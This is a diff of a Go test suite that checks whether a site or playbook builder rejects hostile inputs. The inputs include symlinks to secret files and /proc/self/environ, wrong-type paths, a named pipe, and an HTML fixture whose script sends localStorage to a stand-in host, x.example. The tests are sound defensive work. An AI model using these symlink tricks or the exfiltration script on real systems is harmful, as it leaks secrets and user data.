@@ -55,48 +55,71 @@ func TestHostilePlaybooks(t *testing.T) {
 	for _, tc := range []hostileCase{
 		{"an image that is a link to a secret", func(t *testing.T, src, outside string) {
 			link(t, filepath.Join(outside, "secret.txt"), filepath.Join(src, "content/images/logo.png"))
-		}, []string{"content/images/logo.png: error: this file is a symbolic link"}},
+		}, []string{"content/images/logo.png: error: this is a symbolic link"}},
 		{"an image that is a link to /proc/self/environ", func(t *testing.T, src, outside string) {
 			link(t, "/proc/self/environ", filepath.Join(src, "content/images/env.png"))
-		}, []string{"content/images/env.png: error: this file is a symbolic link"}},
+		}, []string{"content/images/env.png: error: this is a symbolic link"}},
 		{"an image that is a link inside the playbook", func(t *testing.T, src, outside string) {
 			link(t, "../../playbook.yaml", filepath.Join(src, "content/images/config.png"))
-		}, []string{"content/images/config.png: error: this file is a symbolic link"}},
+		}, []string{"content/images/config.png: error: this is a symbolic link"}},
 		{"a folder of images that is a link", func(t *testing.T, src, outside string) {
 			link(t, outside, filepath.Join(src, "content/images/more"))
-		}, []string{"content/images/more: error: this file is a symbolic link"}},
+		}, []string{"content/images/more: error: this is a symbolic link"}},
 		{"a guide that is a link", func(t *testing.T, src, outside string) {
 			link(t, filepath.Join(outside, "guide.md"), filepath.Join(src, "content/guides/stolen.md"))
-		}, []string{"content/guides/stolen.md: error: this file is a symbolic link"}},
+		}, []string{"content/guides/stolen.md: error: this is a symbolic link"}},
 		{"the guides folder is a link", func(t *testing.T, src, outside string) {
 			os.RemoveAll(filepath.Join(src, "content/guides"))
 			link(t, outside, filepath.Join(src, "content/guides"))
-		}, []string{"content/guides: error: this file is a symbolic link"}},
+		}, []string{"content/guides: error: this is a symbolic link"}},
 		{"a data file that is a link", func(t *testing.T, src, outside string) {
 			os.Remove(filepath.Join(src, "data/stories.yaml"))
 			link(t, filepath.Join(outside, "secret.txt"), filepath.Join(src, "data/stories.yaml"))
-		}, []string{"data/stories.yaml: error: this file is a symbolic link"}},
+		}, []string{"data/stories.yaml: error: this is a symbolic link"}},
 		{"playbook.yaml is a link", func(t *testing.T, src, outside string) {
 			os.Remove(filepath.Join(src, "playbook.yaml"))
 			link(t, filepath.Join(outside, "secret.txt"), filepath.Join(src, "playbook.yaml"))
-		}, []string{"playbook.yaml: error: this file is a symbolic link"}},
+		}, []string{"playbook.yaml: error: this is a symbolic link"}},
 		{"a theme's static file that is a link", func(t *testing.T, src, outside string) {
 			withTheme(t, src)
 			link(t, filepath.Join(outside, "secret.txt"), filepath.Join(src, "themes/mine/static/secret.css"))
-		}, []string{"themes/mine/static/secret.css: error: this file is a symbolic link"}},
+		}, []string{"themes/mine/static/secret.css: error: this is a symbolic link"}},
 		{"a theme's layout that is a link", func(t *testing.T, src, outside string) {
 			withTheme(t, src)
 			link(t, filepath.Join(outside, "secret.txt"), filepath.Join(src, "themes/mine/layouts/page.html"))
-		}, []string{"themes/mine/layouts/page.html: error: this file is a symbolic link"}},
+		}, []string{"themes/mine/layouts/page.html: error: this is a symbolic link"}},
 		{"the theme folder is a link", func(t *testing.T, src, outside string) {
 			withTheme(t, src)
 			link(t, outside, filepath.Join(src, "themes/mine"))
-		}, []string{"themes/mine: error: this folder is a symbolic link"}},
+		}, []string{"themes/mine: error: this is a symbolic link"}},
+		{"playbook.yaml is a folder", func(t *testing.T, src, outside string) {
+			os.Remove(filepath.Join(src, "playbook.yaml"))
+			os.Mkdir(filepath.Join(src, "playbook.yaml"), 0o755)
+		}, []string{"playbook.yaml: error: this is a folder, not a file"}},
+		{"data is a file", func(t *testing.T, src, outside string) {
+			os.RemoveAll(filepath.Join(src, "data"))
+			put(t, filepath.Join(src, "data"), "x")
+		}, []string{"data: error: this is a file, not a folder"}},
+		{"content/guides is a file", func(t *testing.T, src, outside string) {
+			os.RemoveAll(filepath.Join(src, "content/guides"))
+			put(t, filepath.Join(src, "content/guides"), "x")
+		}, []string{"content/guides: error: this is a file, not a folder"}},
+		{"content/images is a file", func(t *testing.T, src, outside string) {
+			os.RemoveAll(filepath.Join(src, "content/images"))
+			put(t, filepath.Join(src, "content/images"), "x")
+		}, []string{"content/images: error: this is a file, not a folder"}},
+		{"a data file is a folder", func(t *testing.T, src, outside string) {
+			os.Remove(filepath.Join(src, "data/roles.yaml"))
+			os.Mkdir(filepath.Join(src, "data/roles.yaml"), 0o755)
+		}, []string{"data/roles.yaml: error: this is a folder, not a file"}},
+		{"a file name with a line break", func(t *testing.T, src, outside string) {
+			put(t, filepath.Join(src, "content/guides", "a\nb.md"), "---\ntitle: A\nsummary: B\n---\n")
+		}, []string{`content/guides: error: the file "a\nb.md" in this folder has a name with a line break`}},
 		{"a named pipe among the images", func(t *testing.T, src, outside string) {
 			if err := syscall.Mkfifo(filepath.Join(src, "content/images/pipe.png"), 0o644); err != nil {
 				t.Fatal(err)
 			}
-		}, []string{"content/images/pipe.png: error: this file is not a regular file"}},
+		}, []string{"content/images/pipe.png: error: this is not a regular file"}},
 		{"an HTML page among the images", func(t *testing.T, src, outside string) {
 			put(t, filepath.Join(src, "content/images/login.html"), "<script>fetch('//x.example/?'+localStorage)</script>")
 		}, []string{"content/images/login.html: error: this file is not an image"}},
